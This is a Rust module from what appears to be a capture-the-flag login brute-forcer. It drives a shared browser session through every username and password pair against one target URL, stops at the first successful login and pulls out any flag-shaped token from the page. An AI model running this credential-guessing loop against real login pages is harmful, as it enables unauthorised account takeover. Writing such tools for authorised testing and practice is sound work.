//! Sequences the username × password cross product against one target.
//!
//! A single browser session is shared across the whole run and is closed
//! exactly once no matter how the run ends. Attempts execute strictly in
//! username-major, password-minor order; the first success stops the run.

use std::future::Future;
use std::io::Write;
use std::time::Duration;

use anyhow::Result;
use tokio::time::sleep;
use tracing::{debug, info, warn};

use crate::classify;
use crate::executor::{LoginExecutor, SettleDelays};
use crate::types::{AttemptOutcome, CredentialPair, FieldHints};
use crate::webdriver::Browser;

/// How an attack run ended
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttackResult {
    /// Valid credentials were found
    Found {
        credentials: CredentialPair,
        /// Bounded excerpt of the response if it contained a flag-shaped token
        flag_excerpt: Option<String>,
    },
    /// The cross product completed without a success
    Exhausted,
    /// The operator cancelled the run mid-iteration
    Interrupted,
}

/// Anything that can perform one login attempt.
///
/// The production implementation is [`LoginExecutor`]; tests drive the loop
/// with scripted stand-ins.
pub trait Attempter {
    async fn attempt(&mut self, credentials: &CredentialPair) -> AttemptOutcome;
}

impl Attempter for LoginExecutor<'_> {
    async fn attempt(&mut self, credentials: &CredentialPair) -> AttemptOutcome {
        LoginExecutor::attempt(self, credentials).await
    }
}

/// Options for one attack run
#[derive(Debug, Clone)]
pub struct AttackOptions {
    /// Delay between consecutive attempts, to avoid overwhelming the target
    pub inter_attempt_delay: Duration,
    /// Settle delays within each attempt
    pub settle: SettleDelays,
}

impl Default for AttackOptions {
    fn default() -> Self {
        Self {
            inter_attempt_delay: Duration::from_millis(500),
            settle: SettleDelays::default(),
        }
    }
}

/// Run the full attack: iterate the cross product over one browser session,
/// then close the session regardless of outcome.
pub async fn run(
    browser: Browser,
    url: &str,
    usernames: &[String],
    passwords: &[String],
    hints: FieldHints,
    options: AttackOptions,
) -> Result<AttackResult> {
    let result = {
        let mut executor =
            LoginExecutor::new(&browser, url.to_string(), hints, options.settle);
        let cancel = async {
            let _ = tokio::signal::ctrl_c().await;
        };
        run_loop(
            &mut executor,
            usernames,
            passwords,
            options.inter_attempt_delay,
            cancel,
        )
        .await
    };

    // The session must be released on every exit path; this is the single
    // close point
    Ok(finish_run(result, browser.close()).await)
}

/// Release the session without letting a close failure discard the run
/// result. Found credentials must still reach the operator when the session
/// dies after the final redirect.
async fn finish_run(
    result: AttackResult,
    close: impl Future<Output = Result<()>>,
) -> AttackResult {
    match close.await {
        Ok(()) => info!("Browser closed"),
        Err(e) => warn!("Failed to close browser session: {:#}", e),
    }
    result
}

/// Drive the cross product through `attempter` until success, exhaustion,
/// or cancellation. Attempt numbering in the progress stream is 1-based.
pub async fn run_loop<A: Attempter>(
    attempter: &mut A,
    usernames: &[String],
    passwords: &[String],
    inter_attempt_delay: Duration,
    cancel: impl Future<Output = ()>,
) -> AttackResult {
    let mut cancel = std::pin::pin!(cancel);
    let mut attempt_count: u64 = 0;

    for username in usernames {
        for password in passwords {
            attempt_count += 1;
            let credentials = CredentialPair::new(username, password);
            print!("[{}] Trying {} ", attempt_count, credentials);
            let _ = std::io::stdout().flush();

            let outcome = tokio::select! {
                biased;
                _ = &mut cancel => {
                    println!();
                    println!("[!] Attack interrupted by user");
                    return AttackResult::Interrupted;
                }
                outcome = attempter.attempt(&credentials) => outcome,
            };

            match outcome {
                AttemptOutcome::Success { page_text } => {
                    println!("✓ SUCCESS!");
                    return AttackResult::Found {
                        credentials,
                        flag_excerpt: classify::flag_excerpt(&page_text),
                    };
                }
                AttemptOutcome::Failure { reason } => {
                    println!("✗");
                    if let Some(reason) = reason {
                        debug!("Attempt {} error: {}", attempt_count, reason);
                    }
                }
                AttemptOutcome::FieldsNotFound => {
                    println!("✗ (form fields not found)");
                }
            }

            tokio::select! {
                biased;
                _ = &mut cancel => {
                    println!("[!] Attack interrupted by user");
                    return AttackResult::Interrupted;
                }
                _ = sleep(inter_attempt_delay) => {}
            }
        }
    }

    AttackResult::Exhausted
}

#[cfg(test)]
#[path = "attack_test.rs"]
mod attack_test;
